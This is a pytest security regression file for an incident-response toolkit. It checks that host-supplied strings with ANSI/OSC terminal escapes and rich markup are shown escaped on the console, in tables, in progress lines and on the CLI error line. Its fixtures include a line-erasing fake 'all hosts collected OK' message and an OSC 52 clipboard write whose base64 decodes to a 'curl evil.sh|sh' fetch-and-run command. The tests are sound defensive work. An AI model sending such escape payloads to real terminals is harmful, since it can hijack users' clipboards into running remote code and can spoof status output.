"""Finding 16 (security review): host-controlled strings reached the responder's terminal raw
(ANSI/OSC escapes such as OSC 52 clipboard writes, erased lines) and rich markup went unescaped.

Ported from security-pocs/poc_tty.py, plus the progress display, tables and the CLI's error line.
"""

from __future__ import annotations

import io
import subprocess
import sys

import pytest

from hostile_host import END, FakeHost, file_selection, member, stat_record, target
from ir_toolkit import log
from ir_toolkit.triage import remote
from ir_toolkit.triage.collector import collect_host

EVIL = "/etc/x\x1b[2K\r\x1b[32mall hosts collected OK\x1b[0m\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"


def _raw_controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]


@pytest.fixture
def console_log():
    buf = io.StringIO()
    log.configure(verbosity=0, stream=buf)  # default console level: warnings and errors
    yield buf
    log.configure(verbosity=0)


def test_hash_mismatch_path_is_escaped_on_the_console(irkit_home, console_log):
    class TeeHost(FakeHost):
        def respond(self, cmd):
            if "tee /dev/fd/3" in cmd:
                return b"abc", b"0" * 64 + b"  -\n", 0
            return super().respond(cmd)

    host = TeeHost(stats=stat_record(EVIL, 3), hashes=b"1" * 64 + b"  " + remote.encode_path(EVIL) + b"\0",
                   tar=member(EVIL.lstrip("/"), b"abc") + END)
    collect_host(host, target(), file_selection(["/etc/x"], with_command=False))
    out = console_log.getvalue()
    assert "HASH MISMATCH" in out
    assert "\x1b" not in out and not _raw_controls(out), repr(out[:300])
    assert "\\x1b]52;c;" in out, "the escape is shown, visibly"


def test_printable_escapes_c0_c1_bidi_and_non_utf8():
    text = log.printable("a\x1b[31mb\x9b2Jc\u202ed\udce9\x00")
    assert not _raw_controls(text) and "\u202e" not in text
    assert text == "a\\x1b[31mb\\x9b2Jc\\u202ed\\xe9\\x00"


def test_progress_lines_escape_markup_and_controls():
    from rich.console import Console

    from ir_toolkit.cli.progress import RunDisplay

    display = RunDisplay(tty=False)
    buf = io.StringIO()
    display.console = Console(file=buf, force_terminal=True, width=300, highlight=False)
    display("host.done", {"tenant": "globex", "host": "web01", "status": "failed",
                          "message": "sshd: [bold red]\x1b]0;owned\x07[/] [link=http://evil]x[/link]"})
    out = buf.getvalue()
    assert "[bold red]" in out and "[link=http://evil]" in out, "markup is shown literally"
    assert "\x1b]0;" not in out and "\x1b]8;" not in out, "no OSC title or hyperlink reaches the terminal"


def test_tables_do_not_interpret_host_values(capsys):
    from ir_toolkit.cli import output

    output.emit_table([{"path": "[red]fake[/red]\x1b[2J", "n": 1}], ["path", "n"])
    out = capsys.readouterr().out
    assert "[red]fake[/red]" in out and "\x1b[2J" not in out


def test_cli_error_line_is_escaped(tmp_path):
    code = ("import sys; from ir_toolkit.cli import main as m; "
            "m._fail('bad host said \\x1b]52;c;ZXZpbA==\\x07', 1)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert proc.returncode == 1
    assert "\x1b" not in proc.stderr and "\\x1b]52" in proc.stderr
